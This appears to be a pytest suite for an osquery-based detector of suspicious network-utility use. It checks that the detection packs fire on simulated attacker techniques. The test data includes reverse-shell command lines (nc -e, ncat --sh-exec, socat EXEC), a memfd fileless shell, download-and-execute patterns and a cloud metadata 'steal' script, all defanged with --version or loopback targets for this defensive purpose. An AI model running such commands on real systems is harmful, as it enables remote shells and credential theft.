"""The packs end to end: real scripts and real utilities on the real kernel, through the
probe, enrichment and store, detected by the packs' SQL in the embedded host."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path
from typing import Any, Iterator

import pytest

from osquery_netutil.packs import source as packs
from osquery_netutil.host.database import Host
from osquery_netutil.events.sensor import Sensor
from osquery_netutil.tables.plugins import stored_tables

from tests.conftest import Container, need
from testkit.support import write_executable

pytestmark = pytest.mark.probe
# As plain watch runs them, over every row stored: a live row is judged at once (a
# scheduled run's window waits SETTLED_S for an exec's socket events; test_cursor checks that).
QUERIES = {q.name: q for q in packs.load_each(by_cursor=True)[0]}
EVERY_ROW = {name: bound for low, high in packs.BOUNDS.values() for name, bound in ((low, 0), (high, 2**62))}
NC = os.path.realpath(shutil.which("nc") or "/usr/bin/nc")


def detections(sensor: Sensor, name: str, tag: str, timeout: float = 10.0) -> list[dict[str, Any]]:
    """Rows of detection `name` whose cmdline carries tag, waiting for the store to catch up."""
    host = Host(stored_tables(lambda: sensor.store))
    deadline = time.monotonic() + timeout
    while True:
        sensor.store.flush()
        columns, rows = host.query(QUERIES[name].sql, EVERY_ROW)
        found = [dict(zip(columns, r)) for r in rows if tag in r[columns.index("cmdline")]]
        if found or time.monotonic() > deadline:
            return found
        time.sleep(0.2)


@pytest.fixture(params=["/tmp", "/dev/shm", "/var/tmp"])
def dropdir(request: pytest.FixtureRequest) -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="netutil-drop-", dir=request.param))
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.mark.parametrize("how", ["{script}", "sh {script}", "cd {dir} && ./x.sh", "bash -c '{script}'"],
                         ids=["shebang", "sh-script", "relative", "bash-c"])
def test_a_script_in_a_writable_directory_is_detected(sensor: Sensor, dropdir: Path, how: str) -> None:
    tag = uuid.uuid4().hex[:10]
    script = write_executable(dropdir / "x.sh", f"#!/bin/sh\nnc -h {tag} 2>/dev/null\n")
    subprocess.run(["/bin/sh", "-c", how.format(script=script, dir=dropdir)], timeout=30)
    (hit,) = detections(sensor, "netutil_host_suspicious_location", tag)
    placed = (str(script), "script in a writable directory" if how.startswith("sh ") else "writable directory")
    if how.startswith("cd ") and hit["suspicious_path"] == "./x.sh":
        # x.sh (exec'd in the shell's pid, then nc in its own) had exited when its cwd was
        # to be read (a loaded host): its place is unknown, and it still fires, as relative.
        placed = ("./x.sh", "relative path")
    assert hit["utility"] == "netcat" and (hit["suspicious_path"], hit["reason"]) == placed and placed[0] in hit["message"]
    assert hit["chain"].endswith(" > /usr/bin/nc") and hit["container_id"] == ""


def test_a_memfd_shell_is_detected(sensor: Sensor) -> None:
    tag = uuid.uuid4().hex[:10]
    code = (
        "import os, sys\n"
        "fd = os.memfd_create('x', 0)\n"
        "os.write(fd, open('/bin/dash', 'rb').read())\n"
        "os.execve(fd, ['sh', '-c', f'nc -h {sys.argv[1]} 2>/dev/null; true'], {'PATH': os.environ['PATH']})\n"
    )
    subprocess.run([sys.executable, "-c", code, tag], timeout=30)
    (hit,) = detections(sensor, "netutil_host_suspicious_location", tag)
    assert hit["reason"] == "fd or memfd" and hit["suspicious_path"].startswith("/dev/fd/")


def test_public_ip_and_renamed_copy_are_detected(sensor: Sensor, workdir: Path) -> None:
    tag = uuid.uuid4().hex[:10]
    subprocess.run(["curl", "--version", f"http://example.test/{tag}", "8.8.8.8"], capture_output=True, timeout=10)
    (hit,) = detections(sensor, "netutil_public_ip_argument", tag)
    assert hit["public_ip_args"] == "8.8.8.8"
    copy = workdir / "upd"
    shutil.copy(NC, copy)
    subprocess.run([str(copy), "-h", tag], capture_output=True, timeout=10)
    (hit,) = detections(sensor, "netutil_renamed_utility", tag)
    assert hit["utility"] == "netcat" and hit["path"] == str(copy)


@pytest.mark.parametrize(
    ("shell", "how"),
    [("bash <(curl --version http://example.test/{tag})", "is run by an interpreter through its parent's <(...) or $(...)"),
     ('sh -c "$(curl --version http://example.test/{tag})"', "is run by an interpreter through its parent's <(...) or $(...)"),
     ("curl --version -sSLo {drop}/k http://example.test/{tag}", "writes the download into a writable directory")],
    ids=["process-substitution", "command-substitution", "bundled-output-flag"],
)
def test_downloads_run_by_a_shell_or_saved_to_a_writable_directory_are_detected(
        sensor: Sensor, workdir: Path, shell: str, how: str) -> None:
    tag = uuid.uuid4().hex[:10]
    subprocess.run(["bash", "-c", shell.format(tag=tag, drop=workdir)], capture_output=True, timeout=10)
    (hit,) = detections(sensor, "netutil_ingress_tool_transfer", tag)
    assert hit["utility"] == "curl" and hit["how"] == how


def test_a_container_is_detected_as_a_container(sensor: Sensor, workdir: Path, container: Container) -> None:
    tag = uuid.uuid4().hex[:10]
    stage = write_executable(workdir / "stage.sh", f"#!/bin/sh\nnc -h {tag} 2>/dev/null\n")
    entry = write_executable(workdir / "entry.sh", container.entry(str(stage)))
    subprocess.run([str(entry)], check=True, timeout=30)
    (hit,) = detections(sensor, "netutil_container_suspicious_location", tag)
    assert hit["container_id"] == container.id and hit["suspicious_path"] == str(stage)
    assert container.id[:12] in hit["message"]
    assert detections(sensor, "netutil_host_suspicious_location", tag, timeout=0) == []


MEMFD_SHELL = (
    "import os, sys\n"
    "fd = os.memfd_create('launcher', 0)\n"
    "os.write(fd, open('/bin/dash', 'rb').read())\n"
    "os.execve(fd, ['sh', '-c', sys.argv[1]], dict(os.environ))\n"
)


def test_the_hosts_own_memfd_launcher_is_not_evidence_but_a_memfd_below_it_is(tmp_path: Path) -> None:
    """A launcher exec'd from a memfd (as agents, CI runners and this project's sandbox
    are) starts `watch` and, beside it, a benign curl: quiet, since the launcher is the
    host's base. The same curl from a memfd shell the launcher started: detected."""
    need(None if os.geteuid() == 0 else "needs root (watch attaches the probe)")
    tag = uuid.uuid4().hex[:10]
    out, err = tmp_path / "watch.out", tmp_path / "watch.err"
    # A remote address, so that the loopback exception plays no part: in an empty network
    # namespace, though --version sends nothing anyway.
    below = f"unshare -n curl --version http://203.0.113.9/evil-{tag} >/dev/null"
    script = (
        f"{sys.executable} -m osquery_netutil watch --no-store --format json --every 1 >{out} 2>{err} & watch=$!\n"
        f"i=0; while ! grep -q 'watching execs' {err} && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done\n"
        f"unshare -n curl --version http://203.0.113.9/benign-{tag} >/dev/null\n"
        f"{sys.executable} -c \"$MEMFD_SHELL\" '{below}'\n"
        "sleep 4; kill -INT $watch; wait $watch\n"
    )
    env = {**os.environ, "MEMFD_SHELL": MEMFD_SHELL}
    subprocess.run([sys.executable, "-c", MEMFD_SHELL, script], env=env, timeout=90, check=True)
    assert "watching execs" in err.read_text(), err.read_text()
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    location = [line["columns"] for line in lines if line["name"].endswith("netutil_host_suspicious_location")]
    assert not [c for c in location if f"benign-{tag}" in c["cmdline"]], "the host's own launcher counted as evidence"
    (hit,) = [c for c in location if f"evil-{tag}" in c["cmdline"]]
    assert hit["reason"] == "fd or memfd" and hit["suspicious_path"].startswith("/dev/fd/")
    # Both were seen: the benign one is quiet because of the base, not because it was missed.
    every = [line["columns"]["cmdline"] for line in lines if line["name"].endswith("netutil_every_execution")]
    assert any(f"benign-{tag}" in c for c in every) and any(f"evil-{tag}" in c for c in every)


def test_reverse_shells_to_loopback_are_detected_and_health_checks_are_not(sensor: Sensor, workdir: Path) -> None:
    """A reverse shell into a local tunnel endpoint is still a reverse shell: the loopback
    exception is for health checks only. Nothing listens on the port: each tool exits at
    once (netcat-openbsd even refuses -e), and its exec is what counts."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    tag = uuid.uuid4().hex[:10]
    shells = [f"nc -e /bin/sh 127.0.0.1 {port} {tag}",
              f"ncat --sh-exec 'true {tag}' 127.0.0.1 {port}",
              f"socat TCP:127.0.0.1:{port} EXEC:'/bin/true {tag}'"]
    health = f"nc -z -w 1 127.0.0.1 {port} {tag}-health"
    script = write_executable(workdir / "rs.sh", "#!/bin/sh\n" + "\n".join(f"{c} 2>/dev/null" for c in shells) + "\n")
    subprocess.run([str(script)], timeout=30)
    subprocess.run(["/bin/sh", "-c", health + " 2>/dev/null"], timeout=30)
    hits = detections(sensor, "netutil_backdoor_arguments", tag)
    assert sorted(h["utility"] for h in hits if "-health" not in h["cmdline"]) == ["ncat", "netcat", "socat"], hits
    assert not [h for h in hits if "-health" in h["cmdline"]]
    # Launched from /tmp, the nc is a location detection too; the health check is not.
    located = detections(sensor, "netutil_host_suspicious_location", tag)
    assert {h["utility"] for h in located} >= {"netcat"} and not [h for h in located if "-health" in h["cmdline"]]


def _named_shell(directory: Path, name: str) -> str:
    """A copy of dash under another name: a process whose path says `name`, as a runtime's
    shim or a web server's would."""
    copy = directory / name
    shutil.copy("/bin/dash", copy)
    copy.chmod(0o755)
    return str(copy)


def test_a_containers_own_service_running_a_utility_is_detected_and_a_runtime_probe_is_not(
        sensor: Sensor, workdir: Path, container: Container) -> None:
    """In a docker-like container (cgroup and namespaces as a runtime makes them), a web
    server's shell runs curl: detected, whatever the directory. The same curl in a shell the
    runtime started (docker exec, HEALTHCHECK, an exec probe): quiet."""
    tag = uuid.uuid4().hex[:10]
    shim, nginx = _named_shell(workdir, "containerd-shim-runc-v2"), _named_shell(workdir, "nginx")
    curl = "unshare -n curl --version http://203.0.113.9/{}-" + tag + " >/dev/null"
    body = write_executable(workdir / "body.sh", f"sh -c '{curl.format('service')}'\n")
    inside = write_executable(workdir / "inside.sh", f"{nginx} {body}\nsh -c '{curl.format('probe')}'\n")
    entry = write_executable(workdir / "entry.sh", container.entry(f"{shim} {inside}"))
    subprocess.run([str(entry)], check=True, timeout=30)
    (hit,) = detections(sensor, "netutil_container_service_shell", tag)
    assert f"service-{tag}" in hit["cmdline"] and hit["service"] == nginx and hit["container_id"] == container.id
    assert f" > {shim} > {nginx} > " in hit["chain"]


def test_instance_metadata_access_is_detected_unless_a_cloud_agent_makes_it(sensor: Sensor, workdir: Path) -> None:
    tag = uuid.uuid4().hex[:10]
    agent = _named_shell(workdir, "google_guest_agent")
    fetch = "unshare -n curl --version http://{}/latest/meta-data/" + tag + "-{} >/dev/null"
    dropper = write_executable(workdir / "steal.sh", f"#!/bin/sh\n{fetch.format('0xa9fea9fe', 'stolen')}\n")
    routine = write_executable(workdir / "routine.sh", f"{fetch.format('169.254.169.254', 'agent')}\n")
    subprocess.run([str(dropper)], timeout=30)
    subprocess.run([agent, str(routine)], timeout=30)
    hits = detections(sensor, "netutil_cloud_metadata_access", tag)
    assert [h["cmdline"].rsplit("-", 1)[1] for h in hits] == ["stolen"], hits
    assert "169.254.169.254" in hits[0]["ip_args"]
